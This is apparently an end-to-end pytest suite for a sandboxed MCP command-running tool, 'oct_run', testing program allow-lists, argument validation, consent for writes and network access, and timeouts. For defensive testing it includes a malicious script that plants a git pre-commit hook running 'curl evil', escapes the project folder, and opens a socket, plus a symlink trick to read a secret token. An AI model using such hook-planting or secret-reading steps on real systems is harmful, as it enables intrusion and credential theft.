"""oct_run end to end: a real SDK client over stdio, a fixture package with its own venv, the real sandbox."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from clients import oct_server, only_text
from mcp import Client
from optional import bubblewrap, landlock

from oct_mcp.middleware.safety import CONFIRMATION_PREFIX
from oct_mcp.tools._paging.results import MODEL_VIEW_BUDGET, json_size
from oct_mcp.tools.run import ARGUMENT_MAX_LENGTH, ARGUMENTS_MAX

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

FIXTURE = Path(__file__).parent.parent / "data" / "projects" / "cli_package"
HELP = ["python", "-m", "pkg.cli", "--help"]


def _package(where: Path) -> Path:
    """The fixture package copied to `where`, with a venv of its own in `.venv`, as a developer has it."""
    root = where.resolve() / "cli_package"
    shutil.copytree(FIXTURE, root)
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(root / ".venv")], check=True)
    return root


@pytest.fixture(scope="module")
def shared_package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One package for the tests that never write to it."""
    return _package(tmp_path_factory.mktemp("shared"))


@pytest.fixture
def package(tmp_path: Path) -> Path:
    return _package(tmp_path)


class Human:
    """Answers each consent form as told, and remembers what it was shown."""

    def __init__(self, approve: bool) -> None:
        self.approve = approve
        self.shown: list[str] = []

    async def __call__(self, context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        assert isinstance(params, types.ElicitRequestFormParams)
        self.shown.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": self.approve})


async def _calls(
    project: Path,
    config_file: Path,
    calls: list[dict[str, Any]],
    *,
    human: Human | None = None,
    config: dict[str, Any] | None = None,
    profile: str | None = None,
) -> list[types.CallToolResult]:
    config_file.write_text(json.dumps({**(config or {}), **({"profile": profile} if profile else {})}))
    results = []
    with anyio.fail_after(120):
        async with Client(oct_server(project, config_file), elicitation_callback=human) as client:
            for arguments in calls:
                results.append(await client.call_tool("oct_run", arguments))
    return results


async def _run(
    project: Path, config_file: Path, arguments: dict[str, Any], **options: Any
) -> types.CallToolResult:
    (result,) = await _calls(project, config_file, [arguments], **options)
    return result


async def test_the_package_cli_runs_with_the_projects_interpreter(
    shared_package: Path, config_file: Path
) -> None:
    result = await _run(shared_package, config_file, {"argv": HELP})

    assert result.is_error is False, only_text(result)
    output = result.structured_content
    assert output is not None
    assert output["exit_code"] == 0
    assert output["stdout"].startswith("usage: pkg [-h] [--name NAME]")
    assert output["stderr"] == ""
    assert output["truncated"] is False
    assert output["changed_files"] is None
    assert output["notes"] == ["python: the project's .venv's interpreter"]
    assert only_text(result).startswith("exit code 0 in ")


async def test_python_is_the_interpreter_of_the_projects_venv(
    shared_package: Path, config_file: Path
) -> None:
    result = await _run(shared_package, config_file, {"argv": ["python", "-m", "pkg.cli", "--where"]})

    assert result.structured_content is not None
    assert result.structured_content["stdout"] == "<project>/.venv\nhello, world\n"


async def test_a_failing_command_reports_its_exit_code_and_stderr(
    shared_package: Path, config_file: Path
) -> None:
    result = await _run(shared_package, config_file, {"argv": ["python", "-m", "pkg.cli", "--fail", "3"]})

    assert result.structured_content is not None
    assert (result.structured_content["exit_code"], result.structured_content["stderr"]) == (
        3,
        "failing as asked\n",
    )


async def test_the_working_folder_is_the_project_folder_named(
    shared_package: Path, config_file: Path
) -> None:
    argv = ["python", "-c", "import os; print(os.getcwd())"]

    result = await _run(shared_package, config_file, {"argv": argv, "cwd": "pkg"})

    assert result.structured_content is not None
    assert result.structured_content["stdout"] == "<project>/pkg\n"


async def test_a_program_the_profile_does_not_list_is_refused_with_how_to_allow_it(
    shared_package: Path, config_file: Path
) -> None:
    planted = shared_package / "ran.txt"

    results = await _calls(
        shared_package,
        config_file,
        [{"argv": ["touch", str(planted)]}, {"argv": ["uv", "pip", "install", "x"]}],
    )

    for result in results:
        assert result.is_error is True
        text = only_text(result)
        assert text.startswith("[policy] the program is not allowed in profile 'default' (rule: programs; ")
        assert "allowed: hatch, make, nox, npm run, pytest, python, tox, uv run)" in text
        assert "add its name, or its name and first argument, to the programs of your own profile" in text
        assert '"settings": {"policy": {"programs": [...]}}' in text
    assert not planted.exists()


async def test_a_user_profile_may_allow_another_program(shared_package: Path, config_file: Path) -> None:
    profile = {
        "layers": ["audit", "gateway", "validator", "policy", "safety", "redactor", "sandbox"],
        "settings": {"policy": {"programs": ["echo"]}},
    }

    results = await _calls(
        shared_package,
        config_file,
        [{"argv": ["echo", "hi"]}, {"argv": HELP}],
        config={"profiles": {"echoes": profile}},
        profile="echoes",
    )

    assert results[0].structured_content is not None
    assert results[0].structured_content["stdout"] == "hi\n"
    assert only_text(results[1]).startswith("[policy] the program is not allowed in profile 'echoes'")


@pytest.mark.parametrize(
    ("argv", "field"),
    [
        pytest.param([], "argv", id="empty"),
        pytest.param(["python", "-c", "print(1)\x00"], "argv.2", id="nul"),
        pytest.param(["python", "x" * (ARGUMENT_MAX_LENGTH + 1)], "argv.1", id="too-long"),
        pytest.param(["python"] * (ARGUMENTS_MAX + 1), "argv", id="too-many"),
        pytest.param(["/bin/sh", "-c", "id"], "argv", id="a-path"),
        pytest.param(["-rf"], "argv", id="an-option"),
        pytest.param(["sh -c id"], "argv", id="a-shell-string"),
    ],
)
async def test_bad_arguments_are_refused_by_field_without_running_anything(
    shared_package: Path, config_file: Path, argv: list[str], field: str
) -> None:
    result = await _run(shared_package, config_file, {"argv": argv})

    assert result.is_error is True
    text = only_text(result)
    assert text.startswith(f"[invalid_arguments] invalid arguments for oct_run: {field}: "), text


async def test_timeout_seconds_lowers_the_limit(shared_package: Path, config_file: Path) -> None:
    argv = ["python", "-c", "import time; time.sleep(60)"]

    result = await _run(shared_package, config_file, {"argv": argv, "timeout_seconds": 1})

    assert result.is_error is True
    assert only_text(result) == (
        "[timeout] the tool ran past its limit of 1 s (the call's timeout_seconds) and was stopped"
    )


async def test_timeout_seconds_never_raises_the_limit(shared_package: Path, config_file: Path) -> None:
    argv = ["python", "-c", "import time; time.sleep(60)"]

    result = await _run(
        shared_package,
        config_file,
        {"argv": argv, "timeout_seconds": 30},
        config={"timeout_default_seconds": 1},
    )

    assert result.is_error is True
    assert only_text(result) == (
        "[timeout] the tool ran past its limit of 1 s (timeout_default_seconds) and was stopped"
    )


async def test_long_output_keeps_its_end_within_the_hosts_budget_and_says_so(
    shared_package: Path, config_file: Path
) -> None:
    argv = ["python", "-c", "for n in range(20000): print(f'line {n:05} ' + 'x' * 20)"]

    result = await _run(shared_package, config_file, {"argv": argv})

    output = result.structured_content
    assert output is not None
    assert output["truncated"] is True
    assert output["stdout"].endswith("line 19999 " + "x" * 20 + "\n")
    assert output["output_bytes"] == 20000 * 32
    assert "the output is cut to the result's budget: its end is shown" in output["notes"]
    assert json_size(output) <= MODEL_VIEW_BUDGET
    assert len(only_text(result)) <= MODEL_VIEW_BUDGET


async def test_progress_is_streamed_when_the_client_asks(shared_package: Path, config_file: Path) -> None:
    config_file.write_text("{}")
    seen: list[tuple[float, float | None, str | None]] = []

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        seen.append((progress, total, message))

    argv = ["python", "-c", "print('a secret line')"]
    with anyio.fail_after(60):
        async with Client(oct_server(shared_package, config_file)) as client:
            result = await client.call_tool("oct_run", {"argv": argv}, progress_callback=on_progress)

    assert result.is_error is False
    assert seen == [(1.0, None, "1 line(s) of output")]


async def test_writes_asks_a_human_naming_the_command_and_lists_the_files_it_changed(
    package: Path, config_file: Path
) -> None:
    human = Human(approve=True)
    # In a folder: under landlock no run makes entries at the project root itself.
    argv = ["python", "-m", "pkg.cli", "--write", "pkg/greeting.txt"]

    result = await _run(package, config_file, {"argv": argv, "writes": True}, human=human)

    (question,) = human.shown
    assert question.startswith(
        "oct_run (Run a project command) asks to run `python -m pkg.cli --write pkg/greeting.txt` in the "
        "project root, the project writable (protected paths stay read-only); afterwards the result "
        "lists the files it changed.\nThe changes are made.\n"
    )
    assert result.is_error is False, only_text(result)
    assert result.structured_content is not None
    assert result.structured_content["changed_files"] == ["pkg/greeting.txt"]
    assert (package / "pkg" / "greeting.txt").read_text() == "hello, world\n"


async def test_writes_declined_runs_nothing(package: Path, config_file: Path) -> None:
    argv = ["python", "-m", "pkg.cli", "--write", "greeting.txt"]

    result = await _run(package, config_file, {"argv": argv, "writes": True}, human=Human(approve=False))

    assert only_text(result) == "[declined] the user declined oct_run; nothing ran."
    assert not (package / "greeting.txt").exists()


async def test_writes_without_elicitation_asks_by_the_sentinel_then_confirm_true_runs(
    package: Path, config_file: Path
) -> None:
    arguments = {"argv": ["python", "-m", "pkg.cli", "--write", "pkg/out.txt"], "writes": True}

    first, second = await _calls(package, config_file, [arguments, {**arguments, "confirm": True}])

    text = only_text(first)
    assert text.startswith(
        f"{CONFIRMATION_PREFIX} oct_run (Run a project command) would run "
        "`python -m pkg.cli --write pkg/out.txt` in the project root, the project writable"
    )
    assert "Dry run: no, the changes are made." in text
    assert second.structured_content is not None
    assert second.structured_content["changed_files"] == ["pkg/out.txt"]


async def test_without_writes_the_project_is_read_only(package: Path, config_file: Path) -> None:
    argv = ["python", "-m", "pkg.cli", "--write", "pkg/greeting.txt"]

    result = await _run(package, config_file, {"argv": argv})

    assert result.structured_content is not None
    assert result.structured_content["exit_code"] == 1
    # A read-only bind under bubblewrap, no write right under landlock.
    stderr = result.structured_content["stderr"]
    assert "Read-only file system" in stderr or "Permission denied" in stderr, stderr
    assert not (package / "pkg" / "greeting.txt").exists()


async def test_writes_into_a_protected_folder_is_refused_by_the_policy(
    package: Path, config_file: Path
) -> None:
    (package / ".vscode").mkdir()
    arguments = {"argv": ["python", "-m", "pkg.cli", "--write", "tasks.json"], "cwd": ".vscode"}

    result = await _run(package, config_file, {**arguments, "writes": True, "confirm": True})

    assert only_text(result).startswith("[policy] oct_run may not write to ")
    assert "(protected path rule: agent_config, argument: cwd)" in only_text(result)
    assert not (package / ".vscode" / "tasks.json").exists()


async def test_network_needs_consent_and_a_profile_that_allows_it(
    shared_package: Path, config_file: Path
) -> None:
    arguments = {"argv": ["python", "-c", "print('online')"], "network": True}

    asked, confirmed = await _calls(shared_package, config_file, [arguments, {**arguments, "confirm": True}])
    human = Human(approve=True)
    (airgapped,) = await _calls(shared_package, config_file, [arguments], human=human, profile="airgapped")

    assert only_text(asked).startswith(f"{CONFIRMATION_PREFIX} oct_run (Run a project command) would run ")
    assert "It needs consent because it reaches the network (network=true)." in only_text(asked)
    assert confirmed.structured_content is not None
    assert confirmed.structured_content["stdout"] == "online\n"
    assert airgapped.is_error is True
    assert only_text(airgapped) == (
        "[policy] the call asks for the network, which profile 'airgapped' forbids (rule: no_network); "
        "run it without network=true, or under a profile without the no_network guarantee"
    )
    assert human.shown == []


def _attempt(action: str, label: str) -> str:
    return textwrap.dedent(f"""
        try:
            {action}
            print("{label} DONE")
        except Exception as exc:
            print("{label} BLOCKED", type(exc).__name__)
    """)


@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
async def test_a_malicious_program_is_held_by_the_sandbox(
    package: Path, config_file: Path, backend: str, listener: socket.socket
) -> None:
    (bubblewrap if backend == "bubblewrap" else landlock)()
    (package.parent / "outside").mkdir()
    outside = package.parent / "outside" / "pwned.txt"
    (package / ".git" / "hooks").mkdir(parents=True)
    hook = package / ".git" / "hooks" / "pre-commit"
    port = listener.getsockname()[1]
    script = (
        "import socket\n"
        + _attempt(f"open({str(outside)!r}, 'w').write('x')", "outside")
        + _attempt(f"socket.create_connection(('127.0.0.1', {port}), timeout=2)", "network")
        + _attempt(f"open({str(hook)!r}, 'w').write('#!/bin/sh\\ncurl evil')", "hooks")
        + _attempt("open('pkg/allowed.txt', 'w').write('fine')", "project")
    )
    (package / "evil.py").write_text(script)

    result = await _run(
        package,
        config_file,
        {"argv": ["python", "evil.py"], "writes": True, "confirm": True},
        config={"sandbox_backend": backend},
    )

    assert result.structured_content is not None, only_text(result)
    verdicts = [line.split()[:2] for line in result.structured_content["stdout"].splitlines()]
    assert verdicts == [
        ["outside", "BLOCKED"],
        ["network", "BLOCKED"],
        ["hooks", "BLOCKED"],
        ["project", "DONE"],
    ]
    assert not outside.exists()
    assert not hook.exists()
    with pytest.raises(TimeoutError):
        listener.accept()
    assert result.structured_content["changed_files"] == ["pkg/allowed.txt"]


async def test_the_changed_files_include_those_created_changed_and_deleted(
    package: Path, config_file: Path
) -> None:
    (package / "pkg" / "old.txt").write_text("old\n")
    (package / "kept.txt").write_text("kept\n")
    code = (
        "import os, pathlib; os.remove('pkg/old.txt'); "
        "pathlib.Path('pkg/cli.py').write_text('# changed\\n'); pathlib.Path('pkg/new.py').write_text('')"
    )
    arguments = {"argv": ["python", "-c", code], "writes": True, "confirm": True}

    result = await _run(package, config_file, arguments)

    assert result.structured_content is not None, only_text(result)
    assert result.structured_content["changed_files"] == ["pkg/cli.py", "pkg/new.py", "pkg/old.txt"]
    assert only_text(result).splitlines()[1] == "changed 3 file(s): pkg/cli.py, pkg/new.py, pkg/old.txt"


@pytest.mark.parametrize("cwd", ["..", "/", "pkg/../../.."])
async def test_a_working_folder_outside_the_project_is_refused(
    shared_package: Path, config_file: Path, cwd: str
) -> None:
    result = await _run(shared_package, config_file, {"argv": ["python", "-V"], "cwd": cwd})

    assert result.is_error is True
    assert only_text(result).startswith("[path_refused] ")


async def test_a_working_folder_that_is_no_folder_is_refused(shared_package: Path, config_file: Path) -> None:
    result = await _run(shared_package, config_file, {"argv": ["python", "-V"], "cwd": "pyproject.toml"})

    assert only_text(result) == (
        "[not_found] cwd is not a folder of the project; name an existing folder, or leave it out"
    )


@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
async def test_a_venv_program_linked_into_a_folder_outside_shows_only_that_installs_parts(
    package: Path, config_file: Path, backend: str
) -> None:
    # A venv made in place in another folder (`python -m venv .`): the project links its pytest there.
    (bubblewrap if backend == "bubblewrap" else landlock)()
    other = (package.parent / "other").resolve()
    (other / "bin").mkdir(parents=True)
    (other / "pyvenv.cfg").write_text("home = /usr/bin\n")
    shutil.copy("/bin/cat", other / "bin" / "python")
    shutil.copy("/bin/cat", other / "bin" / "cat")
    (other / "secret.env").write_text("TOKEN=from-the-other-folder\n")
    (package / ".venv" / "bin" / "pytest").symlink_to(other / "bin" / "cat")

    result = await _run(
        package,
        config_file,
        {"argv": ["pytest", str(other / "secret.env")]},
        config={"sandbox_backend": backend},
    )

    assert result.structured_content is not None, only_text(result)
    assert result.structured_content["exit_code"] != 0
    assert "from-the-other-folder" not in json.dumps(result.structured_content)
